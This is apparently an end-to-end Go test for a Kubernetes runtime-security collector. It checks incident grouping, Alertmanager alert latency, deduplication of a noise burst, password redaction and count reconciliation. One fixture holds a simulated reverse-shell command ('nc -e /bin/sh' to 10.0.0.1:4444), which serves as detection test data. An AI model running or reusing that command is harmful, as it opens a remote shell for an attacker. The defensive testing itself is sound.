// Copyright The otelcol-runtime-security Authors
// SPDX-License-Identifier: Apache-2.0

//go:build e2e

package e2e

import (
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/otelcol-runtime-security/otelcol-runtime-security/internal/testbackends"
	"github.com/otelcol-runtime-security/otelcol-runtime-security/internal/testenv"
)

// amPoller reads Alertmanager's alert list every 100 ms and remembers when each incident's alert
// first appeared there: the collector → alertmanager exporter → Alertmanager latency, to within the
// poll interval.
type amPoller struct {
	am   *testbackends.Alertmanager
	stop chan struct{}
	done chan struct{}

	mu        sync.Mutex
	firstSeen map[string]time.Time          // incident id → first poll that listed an alert for it
	last      map[string]testbackends.Alert // incident id → its latest alert as listed
}

func startAMPoller(am *testbackends.Alertmanager) *amPoller {
	p := &amPoller{am: am, stop: make(chan struct{}), done: make(chan struct{}), firstSeen: map[string]time.Time{}, last: map[string]testbackends.Alert{}}
	go func() {
		defer close(p.done)
		tick := time.NewTicker(100 * time.Millisecond)
		defer tick.Stop()
		for {
			select {
			case <-p.stop:
				return
			case <-tick.C:
			}
			alerts, err := am.Alerts()
			if err != nil {
				continue
			}
			now := time.Now()
			p.mu.Lock()
			for _, a := range alerts {
				id := a.Labels["incident"]
				if a.Labels["alertname"] != "RuntimeSecurityIncident" || id == "" {
					continue
				}
				if _, ok := p.firstSeen[id]; !ok {
					p.firstSeen[id] = now
				}
				if a.Status.State != "resolved" && !a.EndsAt.Before(now) {
					p.last[id] = a
				}
			}
			p.mu.Unlock()
		}
	}()
	return p
}

func (p *amPoller) Stop() { close(p.stop); <-p.done }

func (p *amPoller) snapshot() (map[string]time.Time, map[string]testbackends.Alert) {
	p.mu.Lock()
	defer p.mu.Unlock()
	f := make(map[string]time.Time, len(p.firstSeen))
	l := make(map[string]testbackends.Alert, len(p.last))
	for k, v := range p.firstSeen {
		f[k] = v
	}
	for k, v := range p.last {
		l[k] = v
	}
	return f, l
}

// incidentRecords is every detection record of the detections-only store with its incident, pod
// and severity.
func incidentRecords(t *testing.T, store *testbackends.VictoriaLogs) []map[string]string {
	t.Helper()
	rows, err := store.Query(`security_rule.name:* | fields _time, runtime_security.incident.id, k8s.namespace.name, k8s.pod.name, container.id, runtime_security.severity, runtime_security.rules, security_rule.name, runtime_security.chain`)
	if err != nil {
		t.Fatalf("detections: %v", err)
	}
	return rows
}

// checkIncidents: the attack scenario's multi-step attacks are one incident per pod, no incident
// spans two pods, chains fired, and every incident at or above the exporter's min_severity reached
// Alertmanager; it prints how long after the triggering event (p50/p95/max).
func checkIncidents(t *testing.T, detLogs *testbackends.VictoriaLogs, poller *amPoller) {
	t.Helper()
	rows := incidentRecords(t, detLogs)
	podsOf := map[string]map[string]bool{}
	incidentsOf := map[string]map[string]bool{}
	// trigger: the event time of the first warning-or-critical detection of each incident, what
	// makes the exporter post it (min_severity warning).
	trigger := map[string]time.Time{}
	chains := map[string]int{}
	for _, r := range rows {
		id := r["runtime_security.incident.id"]
		if id == "" {
			t.Errorf("a detection without an incident id: %v", r)
			continue
		}
		pod := r["k8s.namespace.name"] + "/" + r["k8s.pod.name"]
		if pod == "/" {
			pod = r["container.id"]
		}
		add := func(m map[string]map[string]bool, k, v string) {
			if m[k] == nil {
				m[k] = map[string]bool{}
			}
			m[k][v] = true
		}
		add(podsOf, id, pod)
		add(incidentsOf, pod, id)
		if c := r["runtime_security.chain"]; c != "" {
			chains[c]++
		}
		if sev := r["runtime_security.severity"]; sev == "warning" || sev == "critical" {
			ts, err := time.Parse(time.RFC3339Nano, r["_time"])
			if err == nil && (trigger[id].IsZero() || ts.Before(trigger[id])) {
				trigger[id] = ts
			}
		}
	}
	if len(podsOf) == 0 {
		t.Fatal("no incidents in the detections store")
	}
	for id, pods := range podsOf {
		if len(pods) != 1 {
			t.Errorf("incident %s spans pods %v: unrelated detections joined it", id, pods)
		}
	}
	for pod, ids := range incidentsOf {
		if len(ids) != 1 {
			t.Errorf("pod %s's detections are split over %d incidents", pod, len(ids))
		}
	}
	for _, c := range []string{"shell_credential_access_then_connection", "shell_then_privilege_escalation"} {
		if chains[c] == 0 {
			t.Errorf("chain %s did not fire end to end (fired: %v)", c, chains)
		}
	}
	t.Logf("incidents: %d over %d pods from %d detections; chains fired %v", len(podsOf), len(incidentsOf), len(rows), chains)

	// Every incident that has a warning or critical detection reached Alertmanager.
	var lat []time.Duration
	testenv.Eventually(t, 30*time.Second, "every incident alert in Alertmanager", func() bool {
		first, _ := poller.snapshot()
		for id := range trigger {
			if _, ok := first[id]; !ok {
				return false
			}
		}
		return true
	})
	first, last := poller.snapshot()
	for id, ts := range trigger {
		lat = append(lat, first[id].Sub(ts))
	}
	sort.Slice(lat, func(i, j int) bool { return lat[i] < lat[j] })
	p95 := lat[(len(lat)*95+99)/100-1]
	t.Logf("LATENCY event→incident alert in Alertmanager (exporter path, 100 ms polls): p50 %s, p95 %s, max %s over %d incidents (target p95 ≤ 2s)",
		lat[len(lat)/2].Round(time.Millisecond), p95.Round(time.Millisecond), lat[len(lat)-1].Round(time.Millisecond), len(lat))

	// The alert carries the context an on-call engineer needs.
	for id := range trigger {
		a, ok := last[id]
		if !ok {
			continue
		}
		for _, l := range []string{"alertname", "severity", "namespace", "workload", "pod", "container", "node", "incident"} {
			if a.Labels[l] == "" {
				t.Errorf("incident alert %s lacks label %s: %v", id, l, a.Labels)
			}
		}
		if a.Labels["rule"] == "" && a.Labels["chain"] == "" {
			t.Errorf("incident alert %s has neither rule nor chain: %v", id, a.Labels)
		}
		for _, k := range []string{"summary", "description", "command_line", "image", "mitre", "runbook_url", "evidence_url", "detections", "first_seen", "rules"} {
			if a.Annotations[k] == "" {
				t.Errorf("incident alert %s lacks annotation %s: %v", id, k, a.Annotations)
			}
		}
		break
	}
}

// checkNoiseBurst replays 1,000 repeats of one reverse shell in one pod: every record is stored,
// and Alertmanager holds one alert for it, whose annotations count the repeats.
func checkNoiseBurst(t *testing.T, simBin, sock string, allLogs *testbackends.VictoriaLogs, am *testbackends.Alertmanager) {
	t.Helper()
	const n = 1000
	dir := t.TempDir()
	var b strings.Builder
	for i := 0; i < n; i++ {
		fmt.Fprintf(&b, noisyExec+"\n", i, time.Now().UTC().Format(time.RFC3339Nano))
	}
	file := filepath.Join(dir, "burst.jsonl")
	if err := os.WriteFile(file, []byte(b.String()), 0o600); err != nil {
		t.Fatal(err)
	}
	sim := testenv.Start(t, "tetragon-sim-burst", simBin, "--listen", "unix://"+sock, "--replay", file, "--restamp", "--rate", "2000", "--stats")
	if err := sim.Wait(2 * time.Minute); err != nil {
		t.Fatalf("tetragon-sim burst: %v", err)
	}
	testenv.Eventually(t, 2*time.Minute, "the burst's 1,000 records in the log store", func() bool {
		c, err := allLogs.Count(`k8s.pod.name:"noisy-0"`)
		return err == nil && c >= n
	})
	if c, _ := allLogs.Count(`k8s.pod.name:"noisy-0"`); c != n {
		t.Errorf("log store holds %d records of the burst, sent %d", c, n)
	}
	var alerts []testbackends.Alert
	testenv.Eventually(t, 30*time.Second, "the burst's alert counts every repeat", func() bool {
		all, err := am.Alerts()
		if err != nil {
			return false
		}
		alerts = alerts[:0]
		for _, a := range all {
			if a.Labels["pod"] == "noisy-0" && a.Status.State != "resolved" {
				alerts = append(alerts, a)
			}
		}
		if len(alerts) != 1 {
			return false
		}
		d, _ := strconv.Atoi(alerts[0].Annotations["detections"])
		return d >= n
	})
	t.Logf("noise: %d repeats → %d alert(s) in Alertmanager, detections annotation %q", n, len(alerts), alerts[0].Annotations["detections"])

	// The command line's password never leaves the collector: not in the log store (body and
	// attributes), not in the alert; the stored command line keeps the option's name.
	if c, err := allLogs.Count(`hunter2`); err != nil || c != 0 {
		t.Errorf("the log store holds the burst's password in %d records (%v)", c, err)
	}
	if c, _ := allLogs.Count(`process.command_line:"--password=***"`); c != n {
		t.Errorf("%d stored records carry the masked command line, want %d", c, n)
	}
	if cl := alerts[0].Annotations["command_line"]; strings.Contains(cl, "hunter2") || !strings.Contains(cl, "--password=***") {
		t.Errorf("alert command_line %q", cl)
	}
}

// noisyExec is a Tetragon process_exec of `nc -e /bin/sh … --password=hunter2` (reverse_shell,
// critical, no suppress window; a secret for the redaction) in pod noisy/noisy-0; %d makes each exec id unique, %s is a placeholder time (restamped).
const noisyExec = `{"process_exec":{"process":{"exec_id":"bm9pc3k6%d","pid":4242,"uid":0,"cwd":"/","binary":"/usr/bin/nc","arguments":"-e /bin/sh 10.0.0.1 4444 --password=hunter2","flags":"execve clone","start_time":"2026-12-01T10:00:00Z","auid":4294967295,"pod":{"namespace":"noisy","name":"noisy-0","container":{"id":"containerd://0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0","name":"app","image":{"id":"docker.io/library/busybox@sha256:00","name":"docker.io/library/busybox:1.36"},"start_time":"2026-12-01T09:00:00Z","pid":7},"pod_labels":{"app":"noisy"},"workload":"noisy","workload_kind":"Deployment"},"docker":"0f1e2d3c4b5a69788796a5b4c3d2e1f","parent_exec_id":"bm9pc3k6cGFyZW50","tid":4242},"parent":{"exec_id":"bm9pc3k6cGFyZW50","pid":4200,"binary":"/bin/sh","arguments":"-c run","flags":"execve","start_time":"2026-12-01T09:00:01Z","pod":{"namespace":"noisy","name":"noisy-0","container":{"id":"containerd://0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0","name":"app"}},"docker":"0f1e2d3c4b5a69788796a5b4c3d2e1f","tid":4200}},"node_name":"e2e-node","time":"%s"}`

// reconcileCounts: Prometheus counts one detection per (record, matched rule or chain), the
// detections store one record per tagged record; the store's records times their matched rules
// must equal Prometheus's total.
func reconcileCounts(t *testing.T, detLogs *testbackends.VictoriaLogs, prom *testbackends.Prometheus) {
	t.Helper()
	records, pairs := detLogs.DetectionPairs(t)
	var promTotal float64
	testenv.Eventually(t, 60*time.Second, "Prometheus's detections equal the stored (record, rule) pairs", func() bool {
		s, err := prom.Query(`sum(runtime_security_detections_total)`)
		if err != nil || len(s) != 1 {
			return false
		}
		promTotal = s[0].Float()
		return int(promTotal) == pairs
	})
	t.Logf("counts: %d tagged records in the detections store carry %d (record, rule) pairs; Prometheus counts %.0f detections", records, pairs, promTotal)
}
